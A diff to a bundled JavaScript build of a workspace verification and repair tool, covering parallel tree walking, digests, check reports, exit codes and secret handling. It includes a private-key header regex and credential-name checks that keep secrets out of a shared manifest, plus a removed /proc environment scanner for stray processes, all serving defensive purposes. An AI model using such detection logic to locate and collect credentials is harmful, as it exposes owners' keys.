-    const texts = await inWorkers({ swrTextWorker: true, kind: opts.kind }, split.roots, ignore, exclude, jobs);
+async function digestInWorkers(split, ignore, exclude, kind, jobs) {
+    const line = kind === 'meta' ? walk_metaLine : walk_stampLine;
+    const texts = await inWorkers({ swrTextWorker: true, kind }, split.roots, ignore, exclude, jobs);
     const h = (0,external_node_crypto_.createHash)('sha256');
     let files = 0;
     const unreadable = [];
     for (const { rec, sub } of split.top) {
         updateLines(h, line(rec));
-        if (rec.type !== 'd')
+        if (rec.type !== TYPE.dir)
             files++;
         const t = sub >= 0 ? texts[sub] : undefined;
         if (!t)
@@ -39676,19 +40594,15 @@ async function digestTreeParallel(root, ignore, exclude, opts) {
     return { digest: h.digest('hex'), files, unreadable };
 }
 /**
- * The same walk on every core: the main thread reads the top level, workers claim its
- * subdirectories one at a time (lstat, and with `hash` also the file hashes, in one pass) and the
- * results are stitched back in walk order. Workers return each subtree's digest lines as text, so
- * this thread only hashes them in order; the records are unpacked from packed columns only if
- * something asks for them (a diff). Small or flat trees are walked inline.
+ * The same walk on every core: this thread describes the upper levels `split` listed, workers
+ * claim the directories below them one at a time (lstat, and with `hash` also the file hashes, in
+ * one pass) and the results are stitched back in walk order. Workers return each subtree's digest
+ * lines as bytes, so this thread only hashes them in order; the records are unpacked from packed
+ * columns only if something asks for them (a diff).
  */
-async function walkTreeParallel(root, ignore, exclude, opts) {
-    const jobs = Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 8);
-    const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude);
-    if (!split)
-        return walkTree(root, ignore, exclude);
+async function walkInWorkers(root, split, ignore, exclude, opts) {
     const { top, roots } = split;
-    const working = walkRootsInWorkers(roots, ignore, exclude, opts.hash, jobs);
+    const working = walkRootsInWorkers(roots, ignore, exclude, opts.hash, opts.jobs);
     // This thread's own entries (lines, and the files' hashes) while the workers walk theirs.
     const own = top.map(({ rec }) => {
         let content;
@@ -39696,16 +40610,16 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         let cached;
         if (opts.hash) {
             let extra;
-            if (rec.type === 'f') {
+            if (rec.type === TYPE.file) {
                 extra = sha = walkedOrError(`${root}/${rec.rel}`, rec.size);
                 if (sha !== undefined)
                     cached = Buffer.from(`,${JSON.stringify(rec.rel)}:${JSON.stringify(cacheValue(rec, sha))}`);
             }
-            else if (rec.type === 'l')
-                extra = linkTargets(root, [rec])[0];
-            content = `${metaLine(rec).slice(0, -1)}\0${extra ?? ''}\n`;
+            else if (rec.type === TYPE.link)
+                extra = walk_linkTargets(root, [rec])[0];
+            content = contentLine(metaFields(rec.rel, rec.type, rec.size, rec.mode), extra ?? '');
         }
-        return { meta: metaLine(rec), stamp: stampLine(rec), content, sha, cached };
+        return { meta: walk_metaLine(rec), stamp: walk_stampLine(rec), content, sha, cached };
     });
     const results = await working;
     const meta = (0,external_node_crypto_.createHash)('sha256');
@@ -39720,13 +40634,13 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         const o = own[k];
         updateLines(meta, o.meta);
         updateLines(stamp, o.stamp);
-        if (rec.type !== 'd')
+        if (rec.type !== TYPE.dir)
             files++;
         if (o.content !== undefined) {
             updateLines(content, o.content);
-            if (rec.type === 'f')
+            if (rec.type === TYPE.file)
                 topShas.set(k, o.sha);
-            if (rec.type === 'f' && o.sha === undefined)
+            if (rec.type === TYPE.file && o.sha === undefined)
                 failed++;
             if (o.cached)
                 cache.push(o.cached);
@@ -39770,10 +40684,6 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         pre
     };
 }
-/** A file's entry in the per-file cache: its identity, size and sha256. */
-function cacheValue(r, sha256) {
-    return `${ident(r)} ${r.size} ${sha256}`;
-}
 /** NUL-separated name bytes as names (byte-names.mjs spelling). */
 function splitNames(bytes) {
     const b = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.length);
@@ -39811,15 +40721,13 @@ function unpackWalk(top, results, topShas) {
                 ctimeNs: r.ctimes[i]
             });
             const sha = hex.slice(i * 64, i * 64 + 64);
-            shas.push(sha === walk_NO_SHA ? undefined : sha);
+            shas.push(sha === NO_SHA ? undefined : sha);
         }
     });
     return { records, shas };
 }
 const OPEN = Buffer.from('{');
 const CLOSE = Buffer.from('}');
-/** The sha256 slot of a record with none (hash-kernel.mjs writes the same). */
-const walk_NO_SHA = '-'.repeat(64);
 function walkRootsInWorkers(roots, ignore, exclude, hash, jobs) {
     return inWorkers({ swrWalkWorker: true, hash }, roots, ignore, exclude, jobs);
 }
@@ -39839,7 +40747,7 @@ function inWorkers(role, roots, ignore, exclude, jobs) {
         exclude: [...exclude]
     };
     const one = () => new Promise((resolve, reject) => {
-        const w = new external_node_worker_threads_.Worker(kernelUrl(), { workerData });
+        const w = new external_node_worker_threads_.Worker(hash_pool_kernelUrl(), { workerData });
         let finished = false;
         w.on('message', (m) => {
             if (m === 'done') {
@@ -39860,6 +40768,77 @@ function inWorkers(role, roots, ignore, exclude, jobs) {
     return Promise.all(Array.from({ length: Math.min(jobs, roots.length) }, one)).then(() => results);
 }
 
+;// CONCATENATED MODULE: ./src/core/verify/walk-strategy.ts
+/**
+ * Which walker walks a tree. Every walker gives the same lines in the same order (walk-format.mjs),
+ * so the choice is about speed only: GNU find (native-walk.ts) for the record-less digests of a
+ * large tree, else walk workers when the tree splits into enough subtrees (walk-workers.ts), else
+ * the inline walk (walk.ts). `SWR_NATIVE_WALK=0` turns the find path off (a find that misbehaves
+ * on some file system, or to compare the walkers); `1` or unset leaves it on.
+ */
+
+
+
+
+
+/** The variable that turns the native walk off. */
+const NATIVE_WALK_VAR = 'SWR_NATIVE_WALK';
+/**
+ * The smallest tree (recorded files) worth a find whatever its shape: starting the shell and the
+ * finds costs ~15 ms, about what the Node walker spends on 1,000 entries (lstat ~10-15 µs each
+ * here, plus the garbage), and find walks the rest at about half Node's cost per entry.
+ */
+const NATIVE_MIN_FILES = 1000;
+/** More workers than this cost more to start than they save (the walk is bound by the disk). */
+const MAX_JOBS = 8;
+/** Whether the environment allows the native walk; a value other than 0 or 1 is refused (exit 4). */
+function nativeWalkAllowed(env) {
+    const v = env[NATIVE_WALK_VAR];
+    if (v === undefined || v === '' || v === '1')
+        return true;
+    if (v === '0')
+        return false;
+    throw new errors_SwrError(`${NATIVE_WALK_VAR} must be 0 (no find) or 1 (the default)`, errors_EXIT.BAD_MANIFEST);
+}
+function jobsOf(jobs) {
+    return Math.min(jobs ?? external_node_os_default().availableParallelism(), MAX_JOBS);
+}
+/**
+ * The metadata digest or the cache stamp of a large tree without building per-entry records: from
+ * GNU find's lines where native-walk.ts can promise the Node walker's, else from walk workers.
+ * Undefined when the tree is too small or flat for either (the caller walks it inline).
+ */
+async function digestTreeParallel(root, ignore, exclude, opts) {
+    const jobs = jobsOf(opts.jobs);
+    if (opts.native !== false) {
+        // find describes the top level too: only the listing is read here (no lstat per entry).
+        const top = listTop(root, ignore, exclude);
+        const dirs = top?.filter(t => t.dir).length ?? 0;
+        if (top && dirs > 0 && (dirs >= MIN_ROOTS || (opts.expectFiles ?? 0) >= NATIVE_MIN_FILES)) {
+            const r = await nativeTreeDigest(root, top, ignore, exclude, opts.kind, jobs, {
+                known: opts.known
+            });
+            if (r)
+                return r;
+        }
+    }
+    if (jobs < 2)
+        return undefined;
+    const split = splitTop(root, ignore, exclude);
+    return split && digestInWorkers(split, ignore, exclude, opts.kind, jobs);
+}
+/**
+ * The tree's records (and, with `hash`, its files' hashes and every digest) on every core when it
+ * splits into enough subtrees; small or flat trees are walked inline.
+ */
+async function walkTreeParallel(root, ignore, exclude, opts) {
+    const jobs = jobsOf(opts.jobs);
+    const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude);
+    if (!split)
+        return walk_walkTree(root, ignore, exclude);
+    return walkInWorkers(root, split, ignore, exclude, { hash: opts.hash, jobs });
+}
+
 ;// CONCATENATED MODULE: ./src/core/verify/tree.ts
 /**
  * `tree` entries: a directory judged by its sentinels, file-count bounds, a metadata digest and a
@@ -39867,6 +40846,7 @@ function inWorkers(role, roots, ignore, exclude, jobs) {
  * nothing; a sentinel catches a gutted tree, the digests catch one changed byte among thousands,
  * and the index names what changed. Warm checks re-hash only files whose identity changed.
  */
+
 
 
 
@@ -39900,7 +40880,7 @@ async function verifyTree(e, ctx) {
     const found = { type: 'directory', files: walk.files, meta: verifier_short(walk.metaDigest) };
     const early = judgeStructure(e, ctx, root, walk, recorded, found);
     if (ctx.metaOnly || !want.content_digest) {
-        return early ?? finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
+        return early?.finding ?? finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
     }
     if (!early && cachedTree && cachedTree.stamp === walk.stamp) {
         return judgeContent(e, ctx, root, walk, cachedTree.contentDigest, undefined, recorded, found, true);
@@ -39928,7 +40908,7 @@ async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
         kind,
         // find's lines are trusted only through a digest they must equal: with no recorded metadata
         // digest a --meta check would judge from find's file count alone, so the Node walker counts.
-        native: kind === 'stamp' || want.meta_digest !== undefined,
+        native: ctx.nativeWalk !== false && (kind === 'stamp' || want.meta_digest !== undefined),
         expectFiles: want.files ?? want.min_files,
         ...(known ? { known } : {})
     });
@@ -39946,7 +40926,7 @@ async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
         (want.meta_digest !== undefined && metaDigest !== want.meta_digest))
         return undefined;
     let full;
-    const records = () => (full ??= walkTree(root, e.ignore, ctx.exclude));
+    const records = () => (full ??= walk_walkTree(root, e.ignore, ctx.exclude));
     const walk = {
         get records() {
             return records().records;
@@ -39972,34 +40952,36 @@ function tree_diffIndex(recorded, now, nowExtra) {
     return {
         ...d,
         diff: {
-            missing: missing.map(shownName),
-            extra: extra.map(shownName),
-            changed: changed.map(c => ({ path: shownName(c.path), what: shownName(c.what) })),
+            missing: missing.map(byte_names_shownName),
+            extra: extra.map(byte_names_shownName),
+            changed: changed.map(c => ({ path: byte_names_shownName(c.path), what: byte_names_shownName(c.what) })),
             counts
         }
     };
 }
-/** Fold the per-file content differences into a structural finding. */
+/**
+ * Fold the per-file content differences into a structural finding: the file list is replaced by
+ * one that also names content changes; sentinel and count problems stand as they were.
+ */
 function withContentDiff(early, e, ctx, walk, shas) {
-    if (!early.files)
-        return early;
+    const f = early.finding;
+    if (!f.files)
+        return f;
     const index = ctx.readIndex(e.id, e.expect.index);
     if (!index)
-        return early;
+        return f;
     const d = tree_diffIndex(index, walk.records, shas);
     // Only a content or target change adds anything: mode-only differences were already named.
     if (!d.contentChanged)
-        return early;
-    const stripped = early.status === 'STRIPPED';
-    const kept = early.detail
-        .split('; ')
-        .filter(p => p.startsWith('sentinel ') || p.includes(' files (want'));
+        return f;
+    const stripped = f.status === 'STRIPPED';
+    const kept = early.problems.filter(p => p.kind === 'sentinel' || p.kind === 'count');
     return {
-        ...early,
-        status: stripped ? 'CORRUPT' : early.status,
-        reason: stripped ? 'content' : early.reason,
+        ...f,
+        status: stripped ? 'CORRUPT' : f.status,
+        reason: stripped ? 'content' : f.reason,
         files: d.diff,
-        detail: [...kept, describeDiff(d.diff)].join('; ')
+        detail: [...kept.map(p => p.text), describeDiff(d.diff)].join('; ')
     };
 }
 /** Everything that needs no hashing: emptiness, sentinels, unreadable parts, counts, metadata. */
@@ -40007,21 +40989,20 @@ function judgeStructure(e, ctx, root, walk, recorded, found) {
     const want = e.expect;
     if (walk.files === 0 && (want.files ?? want.min_files) > 0) {
         const detail = `directory holds no files (want ${num(want.files ?? want.min_files)})`;
-        return finding(e, 'EMPTY', 'empty', detail, recorded, found);
+        return { finding: finding(e, 'EMPTY', 'empty', detail, recorded, found), problems: [] };
     }
     const problems = [];
-    const sentinels = checkSentinels(root, want.sentinels);
-    if (sentinels.length > 0)
-        problems.push(...sentinels);
+    const add = (kind, text) => problems.push({ kind, text });
+    for (const s of checkSentinels(root, want.sentinels))
+        add('sentinel', s);
     if (walk.unreadable.length > 0) {
-        const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
-        problems.push(`unreadable: ${shown.join(', ')}`);
+        const shown = walk.unreadable.map(u => `${byte_names_shownName(u.rel)} (${u.code})`);
+        add('unreadable', `unreadable: ${shown.join(', ')}`);
     }
     if (walk.files < want.min_files)
-        problems.push(`${num(walk.files)} files (want at least ${num(want.min_files)})`);
-    if (want.max_files !== undefined && walk.files > want.max_files) {
-        problems.push(`${num(walk.files)} files (want at most ${num(want.max_files)})`);
-    }
+        add('count', `${num(walk.files)} files (want at least ${num(want.min_files)})`);
+    if (want.max_files !== undefined && walk.files > want.max_files)
+        add('count', `${num(walk.files)} files (want at most ${num(want.max_files)})`);
     let files;
     let execOnly = false;
     if (want.meta_digest && walk.metaDigest !== want.meta_digest) {
@@ -40030,23 +41011,25 @@ function judgeStructure(e, ctx, root, walk, recorded, found) {
             const d = tree_diffIndex(index, walk.records);
             files = d.diff;
             execOnly = d.execLossOnly;
-            problems.push(describeDiff(d.diff));
+            add('files', describeDiff(d.diff));
         }
         else {
-            problems.push(`metadata digest ${verifier_short(walk.metaDigest)} (want ${verifier_short(want.meta_digest)}); no usable index to name the files`);
+            add('digest', `metadata digest ${verifier_short(walk.metaDigest)} (want ${verifier_short(want.meta_digest)}); no usable index to name the files`);
         }
     }
     if (problems.length === 0)
         return undefined;
     const stripped = execOnly && problems.length === 1;
-    const reason = stripped ? 'exec' : sentinels.length > 0 ? 'sentinel' : files ? 'files' : 'count';
-    const f = finding(e, stripped ? 'STRIPPED' : 'CORRUPT', reason, problems.join('; '), recorded, found);
-    return files ? { ...f, files } : f;
+    const sentinel = problems.some(p => p.kind === 'sentinel');
+    const reason = stripped ? 'exec' : sentinel ? 'sentinel' : files ? 'files' : 'count';
+    const detail = problems.map(p => p.text).join('; ');
+    const f = finding(e, stripped ? 'STRIPPED' : 'CORRUPT', reason, detail, recorded, found);
+    return { finding: files ? { ...f, files } : f, problems };
 }
 function checkSentinels(root, sentinels) {
     const out = [];
     for (const s of sentinels) {
-        const loc = locateInside(root, s);
+        const loc = locate_entry_locateInside(root, s);
         if (loc.state !== 'present')
             out.push(`sentinel missing: ${s}`);
         else if (loc.st.isFile() && loc.st.size === 0n)
@@ -40089,7 +41072,7 @@ function planContentHash(e, ctx, root, walk, recorded, found, early) {
         };
     }
     const known = ctx.cache.treeFiles(e.id);
-    const shas = linkTargets(root, walk.records);
+    const shas = walk_linkTargets(root, walk.records);
     const jobs = [];
     const jobIndex = [];
     walk.records.forEach((r, i) => {
@@ -40116,11 +41099,11 @@ function planContentHash(e, ctx, root, walk, recorded, found, early) {
             results.forEach((res, k) => {
                 const i = jobIndex[k] ?? 0;
                 if ('error' in res)
-                    unreadable.push(shownName(walk.records[i]?.rel ?? '?'));
+                    unreadable.push(byte_names_shownName(walk.records[i]?.rel ?? '?'));
                 else
                     shas[i] = res.sha256;
             });
-            const digest = contentDigest(walk.records, shas);
+            const digest = walk_contentDigest(walk.records, shas);
             const files = new Map();
             walk.records.forEach((r, i) => {
                 if (r.type === 'f' && shas[i])
@@ -40162,7 +41145,7 @@ function judgeContent(e, ctx, root, walk, digest, shas, recorded, found, cached)
 }
 /** Link targets and the hashes the walk made, by record index (for a diff). */
 function walkExtras(root, walk) {
-    const extras = linkTargets(root, walk.records);
+    const extras = walk_linkTargets(root, walk.records);
     const shas = walk.shas ?? [];
     walk.records.forEach((r, i) => {
         if (r.type === 'f')
@@ -40172,7 +41155,7 @@ function walkExtras(root, walk) {
 }
 /** Recompute per-file hashes synchronously (only on a cached mismatch, which is rare). */
 function contentExtras(root, walk) {
-    const extras = linkTargets(root, walk.records);
+    const extras = walk_linkTargets(root, walk.records);
     walk.records.forEach((r, i) => {
         if (r.type !== 'f')
             return;
@@ -40236,7 +41219,7 @@ async function verifyEntries(entries, ctx, pool = {}) {
     // are wanted by the tree walks meanwhile.
     const big = earlyJobs.filter(j => j.cost >= INLINE_BYTES).length;
     const earlyHashed = earlyJobs.length > 0
-        ? hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
+        ? hash_pool_hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
         : Promise.resolve([]);
     // Not left unhandled while the trees are walked: it is awaited below.
     earlyHashed.catch(() => undefined);
@@ -40247,7 +41230,7 @@ async function verifyEntries(entries, ctx, pool = {}) {
     const lateJobs = late.flatMap(p => p.jobs);
     const results = [
         ...(await earlyHashed),
-        ...(lateJobs.length > 0 ? await hashAll(lateJobs, pool) : [])
+        ...(lateJobs.length > 0 ? await hash_pool_hashAll(lateJobs, pool) : [])
     ];
     let offset = 0;
     const judged = new Map();
@@ -40259,10 +41242,10 @@ async function verifyEntries(entries, ctx, pool = {}) {
     return inspected.map(i => (isPending(i) ? judged.get(i) : i));
 }
 
-;// CONCATENATED MODULE: ./src/core/check.ts
+;// CONCATENATED MODULE: ./src/core/verify/selection.ts
 /**
- * `check` as an engine call: select entries, verify them through one hash pool and the incremental
- * cache, and build the report. Read-only: no recipe, smoke command or ldd runs, and nothing in the
+ * Checking a selection of entries: select them, verify them through one hash pool and the
+ * incremental cache, and make the report of what was found. Read-only: no recipe, smoke command or ldd runs, and nothing in the
  * workspace is written (the cache lives in the private state directory).
  */
 
@@ -40275,18 +41258,18 @@ async function verifyEntries(entries, ctx, pool = {}) {
 
 
 /** The entries `only` names, in manifest order; an unknown id is a usage error. */
-function selectEntries(entries, only) {
+function selection_selectEntries(entries, only) {
     if (!only || only.length === 0)
         return [...entries];
     const known = new Set(entries.map(e => e.id));
     const unknown = only.filter(id => !known.has(id));
     if (unknown.length > 0)
-        throw new UsageError(`--only: no entry with id ${unknown.map(u => `"${u}"`).join(', ')}`);
+        throw new errors_UsageError(`--only: no entry with id ${unknown.map(u => `"${u}"`).join(', ')}`);
     const wanted = new Set(only);
     return entries.filter(e => wanted.has(e.id));
 }
 function entryDigests(entries) {
-    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex')]));
+    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(e)).digest('hex')]));
 }
 /** The verification context for `entries` of `m`: cache, exclusions, index reader. */
 function verifyContext(m, entries, opts) {
@@ -40302,13 +41285,15 @@ function verifyContext(m, entries, opts) {
             read: opts.cache !== false
         }),
         exclude: ownPaths(m.file, opts.stateDir),
-        readIndex: (id, ref) => readIndex(indexPath(m.file, id), ref)
+        readIndex: (id, ref) => readIndex(indexPath(m.file, id), ref),
+        nativeWalk: opts.nativeWalk
     };
 }
-async function checkManifest(m, opts) {
+/** Verify the selected entries (those in `known` are taken as given), in manifest order. */
+async function verifySelection(m, opts) {
     const started = new Date();
     const t0 = performance.now();
-    const entries = selectEntries(m.body.entries, opts.only);
+    const entries = selection_selectEntries(m.body.entries, opts.only);
     const known = opts.known ?? new Map();
     const todo = entries.filter(e => !known.has(e.id));
     const fresh = await verifyEntries(todo, verifyContext(m, todo, opts), {
@@ -40320,10 +41305,7 @@ async function checkManifest(m, opts) {
         const f = known.get(e.id) ?? byId.get(e.id);
         return f ? [f] : [];
     });
-    return buildReport({
-        command: opts.command ?? 'check',
-        version: opts.version,
-        manifest: m,
+    return {
         findings,
         options: {
             deep: opts.deep === true,
@@ -40332,17 +41314,34 @@ async function checkManifest(m, opts) {
             only: opts.only ?? []
         },
         started,
-        ms: performance.now() - t0,
+        ms: performance.now() - t0
+    };
+}
+/** The report of `checked`, the one place a check's findings become a report. */
+function reportOf(m, checked, opts) {
+    return buildReport({
+        command: opts.command ?? 'check',
+        version: opts.version,
+        manifest: m,
+        findings: checked.findings,
+        options: checked.options,
+        started: checked.started,
+        ms: checked.ms,
         ...(opts.fixCommand ? { fixCommand: opts.fixCommand } : {})
     });
 }
+async function checkManifest(m, opts) {
+    return reportOf(m, await verifySelection(m, opts), opts);
+}
 /** Verify `entries` as if the workspace were `root` (a scratch copy), uncached. */
-function scratchVerifier(m, stateDir, jobs) {
-    return (root, entries) => reverifier({ ...m, workspace: root }, stateDir, jobs)(entries);
+function scratchVerifier(m, opts) {
+    return (root, entries) => reverifier({ ...m, workspace: root }, opts)(entries);
 }
 /** Verify `entries` afresh (no cached hashes), as repair does after each step. */
-function reverifier(m, stateDir, jobs) {
-    return entries => verifyEntries(entries, verifyContext(m, entries, { stateDir, cache: false, jobs }), { jobs });
+function reverifier(m, opts) {
+    return entries => verifyEntries(entries, verifyContext(m, entries, { ...opts, cache: false }), {
+        jobs: opts.jobs
+    });
 }
 /**
  * swr's own files that may sit inside a workspace (a $HOME workspace holds the default state
@@ -40376,6 +41375,103 @@ function ownPaths(manifestFile, stateDir) {
         out.add(parent);
     }
     return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/check.ts
+/**
+ * `check` as a use case: verify the selection, run the smoke commands when asked and the
+ * signatures allow, look up saved states in the cache when asked, and make the report once from
+ * all of it. Nothing in the workspace is written; smoke commands are the only code that may run.
+ */
+
+
+
+
+async function check(m, opts) {
+    const checked = await verifySelection(m, opts);
+    let gate;
+    let smoke;
+    if (opts.smoke) {
+        gate = await gate_decide(gate_gateInput(m), opts.smoke.policy);
+        const smoked = await runSmokes(m, checked.findings, gate, opts.smoke.callerEnv, opts.smoke.abort);
+        checked.findings = smoked.findings;
+        checked.ms = Date.now() - checked.started.getTime();
+        smoke = smoked.smoke;
+    }
+    let lookup;
+    if (opts.cacheLookup)
+        lookup = await lookupSavedStates(m, selection_selectEntries(m.body.entries, opts.only), opts.cacheLookup);
+    const report = reportOf(m, checked, opts);
+    return {
+        kind: 'check',
+        report: {
+            ...report,
+            ...(smoke ? { smoke } : {}),
+            ...(lookup ? { cache_lookup: lookup } : {})
+        },
+        ...(gate ? { gate } : {})
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/outcome.ts
+/**
+ * The one place a result becomes a status and an exit code. The CLI exits with `exitCode`; the
+ * Action publishes `status` as an output and `exitCode` beside it. Both shells call `outcomeOf`
+ * (or `outcomeOfError` for a run that stopped with a one-line error), so `swr doctor` and
+ * `command: doctor` can never disagree about what a run means.
+ */
+
+/** What a run means, as the Action's `status` output spells it. */
+const RUN_STATUSES = (/* unused pure expression or super */ null && ([
+    'healthy',
+    'repaired',
+    'damaged',
+    'unrepairable',
+    'refused',
+    'invalid',
+    'error'
+]));
+const REPAIR = {
+    healthy: { status: 'healthy', exitCode: errors_EXIT.HEALTHY },
+    repaired: { status: 'repaired', exitCode: errors_EXIT.HEALTHY },
+    damaged: { status: 'damaged', exitCode: errors_EXIT.DAMAGED },
+    refused: { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE },
+    unrepairable: { status: 'unrepairable', exitCode: errors_EXIT.UNREPAIRABLE },
+    'still-damaged': { status: 'unrepairable', exitCode: errors_EXIT.STILL_DAMAGED },
+    // Nothing was decided about the workspace: it is as damaged as it was found.
+    interrupted: { status: 'damaged', exitCode: errors_EXIT.INTERRUPTED }
+};
+function repairOutcome(outcome) {
+    return REPAIR[outcome];
+}
+function outcomeOf(result) {
+    switch (result.kind) {
+        case 'repair':
+            return REPAIR[result.report.repair.outcome];
+        case 'signatures':
+            return result.gate.allowed
+                ? { status: 'healthy', exitCode: errors_EXIT.HEALTHY }
+                : { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE };
+        case 'check':
+            // Smoke commands the signatures did not allow: the check could not say what was asked.
+            if (result.gate && !result.gate.allowed)
+                return { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE };
+            return result.report.verdict === 'healthy'
+                ? { status: 'healthy', exitCode: errors_EXIT.HEALTHY }
+                : { status: 'damaged', exitCode: errors_EXIT.DAMAGED };
+    }
+}
+/**
+ * A run that stopped with a one-line error: `invalid` for a bad manifest or input (exit 4),
+ * `refused` when swr declined to go on (exit 2), `error` when it could not finish (a write failed,
+ * another writer interfered, an interrupt, a bug).
+ */
+function outcomeOfError(exitCode) {
+    if (exitCode === errors_EXIT.BAD_MANIFEST)
+        return { status: 'invalid', exitCode };
+    if (exitCode === errors_EXIT.UNREPAIRABLE)
+        return { status: 'refused', exitCode };
+    return { status: 'error', exitCode };
 }
 
 ;// CONCATENATED MODULE: ./node_modules/yocto-queue/index.js
@@ -40639,7 +41735,7 @@ function validateConcurrency(concurrency) {
 
 
 /** The note a secret's entry carries when it was added without one. */
-const SECRET_NOTE = 'secret: tracked by hash only and never escrowed; restore it from where it was issued';
+const secrets_SECRET_NOTE = 'secret: tracked by hash only and never escrowed; restore it from where it was issued';
 /** Bytes read from the head of a file to judge its content. */
 const SNIFF_BYTES = (/* unused pure expression or super */ null && (64 * 1024));
 /** File names that are credentials wherever they are. */
@@ -40685,7 +41781,7 @@ const ENV_TEMPLATE = /^\.env\.(example|sample|template|dist)$/;
 /** PEM ("RSA", "EC", "ENCRYPTED", none), OpenSSH and PGP private-key armour. */
 const PRIVATE_KEY_HEADER = /-----BEGIN (?:[A-Z0-9]+ ){0,4}PRIVATE KEY(?: BLOCK)?-----/;
 /** True when `rel` (a manifest path) names a file that must never be escrowed. */
-function isSecretPath(rel) {
+function secrets_isSecretPath(rel) {
     const segs = rel.split('/');
     const name = segs[segs.length - 1] ?? '';
     const parent = segs[segs.length - 2];
@@ -40741,7 +41837,7 @@ function realOrResolved(p) {
 function secrets_secretReason(q) {
     if (q.abs && q.stateDir && isInside(realOrResolved(q.stateDir), realOrResolved(q.abs)))
         return "is in swr's state directory";
-    if (isSecretPath(q.rel))
+    if (secrets_isSecretPath(q.rel))
         return 'is a credential by name';
     let bytes = q.bytes;
     if (!bytes && q.abs) {
@@ -40853,7 +41949,7 @@ function linkStaysInside(root, linkAbs, target) {
 
 
 
-const ESCROW_MAX_BYTES = (/* unused pure expression or super */ null && (256 * 1024));
+const escrow_ESCROW_MAX_BYTES = (/* unused pure expression or super */ null && (256 * 1024));
 function refuse(e, why) {
     return new errors_SwrError(`${e.id}: escrow ${why}`, errors_EXIT.UNREPAIRABLE);
 }
@@ -40865,7 +41961,7 @@ function secretRefusal(e, why) {
  * secret (the manifest is shared and pushed: secrets are tracked by hash only): by name before
  * anything is read, by place (`stateDir`) and by content (every byte to be embedded) after.
  */
-function captureEscrow(workspace, e, maxBytes = ESCROW_MAX_BYTES, stateDir) {
+function captureEscrow(workspace, e, maxBytes = escrow_ESCROW_MAX_BYTES, stateDir) {
     const byName = secretReason({ rel: e.path, bytes: new Uint8Array() });
     if (byName)
         throw secretRefusal(e, byName);
@@ -40972,7 +42068,7 @@ function restoreFromEscrow(workspace, e) {
         throw refuse(e, 'restored, but the file does not verify');
 }
 
-;// CONCATENATED MODULE: ./src/core/quarantine.ts
+;// CONCATENATED MODULE: ./src/core/restore/quarantine.ts
 /**
  * Quarantine: before a recipe runs, copy (never move) the damaged file or tree into the private
  * state directory, so the evidence survives and in-place repairs (`chmod +x`) still find their
@@ -41064,421 +42160,7 @@ function pruneQuarantine(stateDir, now, limits = {}, keep) {
     return out;
 }
 
-;// CONCATENATED MODULE: ./src/core/run/escaped.ts
-/**
- * Finding the processes a recipe started that left its process group (`setsid`, a daemonizing
- * server): each recipe runs with a random SWR_RUN_TOKEN in its environment, which children
- * inherit, and /proc tells which processes carry it. Linux only; elsewhere nothing is found.
- * A process that clears its own environment is not found either.
- */
-
-
-const RUN_TOKEN_VAR = 'SWR_RUN_TOKEN';
-function newRunToken() {
-    return (0,external_node_crypto_.randomBytes)(16).toString('hex');
-}
-/** Processes other than this one whose environment carries `token`. */
-function findTagged(token) {
-    const needle = Buffer.from(`${RUN_TOKEN_VAR}=${token}\0`);
-    let pids;
-    try {
-        pids = external_node_fs_default().readdirSync('/proc').filter(n => /^\d+$/.test(n));
-    }
-    catch {
-        return [];
-    }
-    const out = [];
-    for (const p of pids) {
-        const pid = Number(p);
-        if (pid === process.pid)
-            continue;
-        try {
-            const env = external_node_fs_default().readFileSync(`/proc/${p}/environ`);
-            if (!env.includes(needle))
-                continue;
-            const name = external_node_fs_default().readFileSync(`/proc/${p}/comm`, 'utf8').trim();
-            out.push({ pid, name });
-        }
-        catch {
-            // Gone, or not ours to read.
-        }
-    }
-    return out;
-}
-const sleep = (ms) => new Promise(r => setTimeout(r, ms));
-/**
- * Stop every process carrying `token`: SIGTERM, up to `graceMs` to go, then SIGKILL. Returns what
- * was found, for the report.
- */
-async function killTagged(token, graceMs) {
-    const found = findTagged(token);
-    if (found.length === 0)
-        return found;
-    const signal = (sig) => {
-        for (const p of found) {
-            try {
-                process.kill(p.pid, sig);
-            }
-            catch {
-                // Already gone.
-            }
-        }
-    };
-    signal('SIGTERM');
-    const deadline = Date.now() + graceMs;
-    while (Date.now() < deadline && findTagged(token).length > 0)
-        await sleep(50);
-    signal('SIGKILL');
-    // A zombie keeps its environ readable until reaped; SIGKILL is enough, do not wait on it.
-    return found;
-}
-
-;// CONCATENATED MODULE: external "node:string_decoder"
-const external_node_string_decoder_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:string_decoder");
-;// CONCATENATED MODULE: ./src/core/run/output.ts
-/**
- * Recipe output handling: split each stream into lines on its own (stdout and stderr interleave,
- * and a secret must never be cut in two by the other stream), decode UTF-8 across chunk
- * boundaries, and keep a bounded tail measured in bytes, in constant time per line.
- */
-
-/** Feed chunks of one stream; whole lines go to `onLine`; `end` flushes the last partial line. */
-function lineSplitter(onLine, maxLine) {
-    const decoder = new external_node_string_decoder_namespaceObject.StringDecoder('utf8');
-    let partial = '';
-    const take = (text) => {
-        const lines = (partial + text).split('\n');
-        partial = lines.pop() ?? '';
-        for (const l of lines)
-            onLine(l);
-        if (partial.length > maxLine) {
-            onLine(partial);
-            partial = '';
-        }
-    };
-    return {
